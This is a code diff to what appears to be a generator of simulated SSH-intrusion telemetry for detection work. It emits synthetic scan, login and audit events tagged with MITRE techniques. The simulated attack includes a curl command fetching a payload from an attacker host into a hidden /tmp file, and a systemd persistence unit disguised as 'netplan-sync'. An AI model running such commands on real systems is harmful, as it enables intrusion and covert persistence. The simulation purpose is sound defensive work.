@@ -42,7 +42,7 @@ export function sshIntrusion(ctx: Ctx, rng: Rng): TruthStepDraft[] {
   let t = t0;
   for (const { n } of order) {
     const ip = `10.20.1.${n}`;
-    probe(ctx, world.byIp.get(ip), ip, t, atk, rng.int(40_000, 65_000), 22, 'ssh-hscan');
+    probe(ctx, { host: world.byIp.get(ip), dstIp: ip, t, src: atk, sport: rng.int(40_000, 65_000), dport: 22, step: 'ssh-hscan' });
     t += rng.int(200, 500);
   }
   steps.push(draft({ id: 'ssh-hscan', stage: 'recon', technique: 'T1595.001', host: mail.name, hostIp: mail.ip, peer: atk, start: t0, end: t, note: 'SYN sweep of 10.20.1.0/24 on 22/tcp (254 addresses, half-open: sshd never sees it)' }));
@@ -53,8 +53,9 @@ export function sshIntrusion(ctx: Ctx, rng: Rng): TruthStepDraft[] {
   let logged = 0;
   for (const port of TOP_PORTS.map((p) => ({ p, k: rng.next() })).sort((a, b) => a.k - b.k).map((x) => x.p)) {
     const sport = rng.int(40_000, 65_000);
-    if (probe(ctx, mail, mail.ip, t, atk, sport, port, 'ssh-vscan') && logged < 10) {
-      ufwBlock(ctx, mail, t, atk, sport, port, 'ssh-vscan');
+    const p = { host: mail, dstIp: mail.ip, t, src: atk, sport, dport: port, step: 'ssh-vscan' };
+    if (probe(ctx, p) && logged < 10) {
+      ufwBlock(ctx, p);
       logged++;
     }
     t += rng.int(80, 300);
@@ -92,7 +93,7 @@ export function sshIntrusion(ctx: Ctx, rng: Rng): TruthStepDraft[] {
   steps.push(draft({ id: 'ssh-login', stage: 'exploitation', technique: 'T1078.003', host: mail.name, hostIp: mail.ip, peer: atk, start: tL, end: tL + session, note: 'Accepted password for root right after the burst; 12-minute interactive session' }));
 
   const td = tL + 2 * MIN;
-  const curlArgv = ['curl', '-s', '-o', '/tmp/.x', `http://${payload}/x`];
+  const curlArgv = ['curl', '-o', '/tmp/.x', `http://${payload}/x`];
   const curl = shell(ctx, mail, login, td, curlArgv, 'ssh-payload');
   ctx.audit(mail, td + 60, connectEvent(curl, curlArgv, payload, 80, true), 'ssh-payload');
   ctx.flow(tcpSession({ t: td + 60, durMs: 2_800, src: mail.ip, sport: ephemeralPort(rng), dst: payload, dport: 80, up: 420, down: 1_843_216, step: 'ssh-payload' }));
@@ -144,7 +145,7 @@ function persistence(ctx: Ctx, mail: Host, login: Login, t: number, steps: Truth
   shell(ctx, mail, login, ts + 20_000, ['systemctl', 'daemon-reload'], 'ssh-persist-systemd');
   ctx.log(mail, ts + 20_400, 'syslog', 'systemd[1]: Reloading.', 'ssh-persist-systemd');
   shell(ctx, mail, login, ts + 31_000, ['systemctl', 'enable', '--now', 'netplan-sync.service'], 'ssh-persist-systemd');
-  systemdStart(ctx, mail, ts + 31_500, 'netplan-sync', 'Netplan configuration sync', 'ssh-persist-systemd');
+  systemdStart(ctx, { host: mail, t: ts + 31_500, unit: 'netplan-sync', description: 'Netplan configuration sync', step: 'ssh-persist-systemd' });
   steps.push(draft({ id: 'ssh-persist-systemd', stage: 'installation', technique: 'T1543.002', host: mail.name, hostIp: mail.ip, peer: null, start: ts, end: ts + 31_700, note: `${unit} created (PATH nametype=CREATE), enabled and started` }));
 
   const tu = ts + 2 * MIN;
